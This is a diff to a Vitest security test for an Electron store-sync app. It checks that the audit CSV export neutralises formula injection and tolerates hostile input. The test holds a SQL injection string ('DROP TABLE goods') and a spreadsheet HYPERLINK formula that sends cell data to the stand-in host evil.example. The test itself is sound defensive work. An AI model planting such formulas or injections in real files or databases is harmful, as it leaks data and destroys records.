@@ -3,6 +3,7 @@ import { readFileSync, readdirSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { readOrder } from '../../electron/engine/wpdb/order-writer';
+import { parseCsv, FORMULA_CELL } from '../helpers/csv-cells';
 import { createSyncFixture, type SyncFixture } from '../helpers/sync-fixture';
 
 const HOSTILE = `Robert'); DROP TABLE goods; -- "Иван" \\ 😀 ${'дълго'.repeat(80)}`;
@@ -55,9 +56,22 @@ describe('security', () => {
       expect(readFileSync(join(f.t.dataDir, file)).includes(Buffer.from(key))).toBe(false);
   });
 
-  it('a CSV cell that looks like a formula is defused', () => {
+  it('a CSV cell that looks like a formula is defused', async () => {
+    // A good named like a formula, not in the store: the download's report lists it by its name
+    // (a real run: the audit export holds real runs only).
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Отвори")';
+    await f.db.conn.run('UPDATE goods SET Name = ?, BarCode1 = ?, BarCode2 = ? WHERE ID = 21', [
+      formula,
+      '3809999999999',
+      'NOT-IN-STORE',
+    ]);
+    const run = await f.t.engine.sync.runToEnd({ serverId: f.server.id, task: 'download-goods' });
+    expect(run.state, run.error ?? '').toBe('succeeded');
     const csv = f.t.engine.sync.auditCsv(null).csv;
     expect(csv.startsWith('\uFEFFat,server,task')).toBe(true);
-    expect(csv).not.toMatch(/,=/);
+    const cells = parseCsv(csv).flat();
+    // The name is in the export, whole, as text; no cell would run as a formula.
+    expect(cells).toContain(`'${formula}`);
+    expect(cells.filter((c) => FORMULA_CELL.test(c))).toEqual([]);
   });
 });
